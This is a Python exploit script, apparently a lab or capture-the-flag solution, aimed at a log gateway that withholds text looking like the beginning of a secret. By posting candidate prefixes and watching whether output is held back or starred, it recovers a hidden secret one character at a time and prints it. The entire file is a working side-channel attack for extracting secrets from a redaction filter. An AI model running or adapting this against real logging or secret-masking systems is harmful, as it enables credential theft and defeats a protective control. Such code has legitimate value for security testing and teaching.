import http.client, socket, string, time, sys, select
f = socket.create_connection(('egress', 9199)); f.sendall(b'GET /log/follow HTTP/1.1\r\nHost: egress\r\n\r\n')
buf = b''
while b'hello|' not in buf: buf += f.recv(4096)
c = http.client.HTTPConnection('egress', 9199); n = 0
def say(t):
    global n; n += 1
    c.request('POST', '/log/say', body=t); r = c.getresponse(); r.read(); assert r.status == 204, r.status
def held(t, wait=0.06):
    "whether all of the text waits at the gateway: then it is the beginning of a secret"
    say(t); got = b''
    if select.select([f], [], [], wait)[0]: got += f.recv(65536)
    all_held = got == b''
    say('|')
    while b'|' not in got: got += f.recv(65536)
    return all_held, got
t0 = time.time(); A = string.ascii_letters + string.digits + '_-'
# Beginnings that this gateway knows: grown one character at a time. Several secrets and forms begin alike or not: go deep.
def dive(p, limit=64):
    while len(p) < limit:
        nxt = None
        for ch in A:
            h, got = held(p + ch)
            if not h: continue
            if b'*' in got: return p + ch
            nxt = ch; break
        if nxt is None:
            # the last character completes the secret, and is starred at once
            for ch in A:
                h, got = held(p + ch)
                if b'*' in got: return p + ch
            return p
        p += nxt
    return p
known = sys.argv[1] if len(sys.argv) > 1 else ''
found = dive(known)
print('RECOVERED:', [found], 'requests', n, 'seconds %.1f' % (time.time() - t0))
